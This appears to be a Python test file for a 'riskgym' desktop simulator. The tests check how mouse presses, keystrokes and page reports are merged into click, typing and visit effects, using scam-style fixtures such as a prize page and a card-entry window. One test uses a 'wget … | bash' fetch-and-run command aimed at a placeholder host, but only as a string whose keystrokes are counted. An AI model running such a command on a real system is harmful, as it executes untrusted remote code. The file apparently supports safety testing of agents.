"""The desktop's journal as effects (riskgym.world.desktop.part.journal_effects), without a desktop: the X server's
presses and the pages' reports arrive on two threads, in either order; each press is one click, labelled by what the
page said it hit at that moment."""

from riskgym.world.desktop.part import Typing, journal_effects


def press(t, x, y, window="Congratulations!", button=1):
    return {"kind": "press", "button": button, "x": x, "y": y, "window": window, "t": t}


def hit(t, x, y, name="Claim your prize", how="mouse"):
    return {"kind": "click", "how": how, "button": 0, "x": x, "y": y, "url": "http://ads.example/prize",
            "title": "Congratulations!", "role": "link", "name": name, "t": t}


def key(t, text, window="Enter your card"):
    return {"kind": "key", "text": text, "window": window, "t": t}


def test_a_press_takes_the_label_the_page_read_whichever_came_first():
    for journal in ([press(1.0, 650, 393), hit(1.01, 650, 393)], [hit(1.0, 650, 393), press(1.01, 650, 393)]):
        assert [str(e) for e in journal_effects(journal)] == [
            'click link "Claim your prize" in "Congratulations!" left_click']


def test_two_presses_are_matched_by_place_not_by_order():
    journal = [hit(1.0, 650, 393), press(1.0, 100, 100, window="Lisbon weather - Chromium"),
               press(1.01, 650, 393), hit(1.02, 100, 100, name="Lisbon")]
    assert [e.target for e in journal_effects(journal)] == [
        'link "Lisbon" in "Lisbon weather - Chromium"', 'link "Claim your prize" in "Congratulations!"']


def test_a_press_no_page_reported_is_a_click_on_its_window():
    effects = journal_effects([press(1.0, 5, 5, window="xterm", button=3), press(2.0, 7, 7, window="")])
    assert [(e.target, e.detail) for e in effects] == [('window "xterm"', "right_click"),
                                                       ("the desktop", "left_click")]


def test_keys_in_a_row_are_text_typed_into_their_window_and_enter_on_a_link_is_a_click():
    journal = [key(1.0, "4"), key(1.1, "2"), key(1.2, "<Return>"), key(1.3, "x", window="xterm"),
               hit(1.4, 0, 0, how="key")]
    assert [str(e) for e in journal_effects(journal)] == [
        'type window "Enter your card" 42<Return>', 'type window "xterm" x',
        'click link "Claim your prize" in "Congratulations!" key']


def test_a_navigation_is_a_visit_and_a_request_and_a_page_of_its_own_is_not():
    journal = [{"kind": "visit", "url": "http://ads.example/claim?x=1", "t": 1.0},
               {"kind": "visit", "url": "about:blank", "t": 1.1}]
    assert [str(e) for e in journal_effects(journal)] == ["visit ads.example/claim", "network ads.example GET"]


def test_text_typed_into_one_window_in_several_actions_reads_whole_until_a_press():
    typing = Typing()  # the desktop part carries it from one action's journal to the next
    first = journal_effects([press(1.0, 5, 5, window="Sign in"), key(1.1, "Lilac-", window="Sign in")], typing)
    second = journal_effects([key(2.0, "Harbor", window="Sign in")], typing)
    third = journal_effects([press(3.0, 5, 5, window="Sign in"), key(3.1, "x", window="Sign in")], typing)
    assert [e.detail for e in first + second + third if e.kind == "type"] == ["Lilac-", "Lilac-Harbor", "x"]


def test_the_pages_report_of_an_enter_between_keys_does_not_cut_the_text():
    journal = [key(1.0, "Lilac-8"), hit(1.1, 0, 0, how="key"), key(1.2, "830<Linefeed>")]
    typed = [e.detail for e in journal_effects(journal) if e.kind == "type"]
    assert typed[-1] == "Lilac-8830<Linefeed>"


def test_the_driver_waits_for_as_many_presses_as_the_action_makes():
    from riskgym.world.desktop.driver import presses

    assert presses("type", "wget -qO- http://paste.example/setup | bash\n") == 44
    assert presses("key", "shift+Tab Return") == 2
    assert presses("key", "ctrl+l") == 1
    assert presses("key", "shift") == 0  # a modifier alone is not journaled
    assert presses("double_click", "") == 2
    assert presses("left_click", "shift") == 1


def test_a_reset_spares_what_the_browser_forked_after_it_looked():
    import subprocess
    import sys

    from riskgym.world.executor import under

    parent = subprocess.Popen([sys.executable, "-c", "import subprocess, sys, time\n"
                               "c = subprocess.Popen(['sleep', '30']); print(c.pid, flush=True); time.sleep(30)"],
                              stdout=subprocess.PIPE, text=True)
    child = int(parent.stdout.readline())
    try:
        assert under(child, {parent.pid}) and under(parent.pid, {parent.pid})
        assert not under(child, {child + 100000}) and not under(parent.pid, {child})
    finally:
        subprocess.run(["kill", str(child)], check=False)
        parent.kill()
        parent.wait()
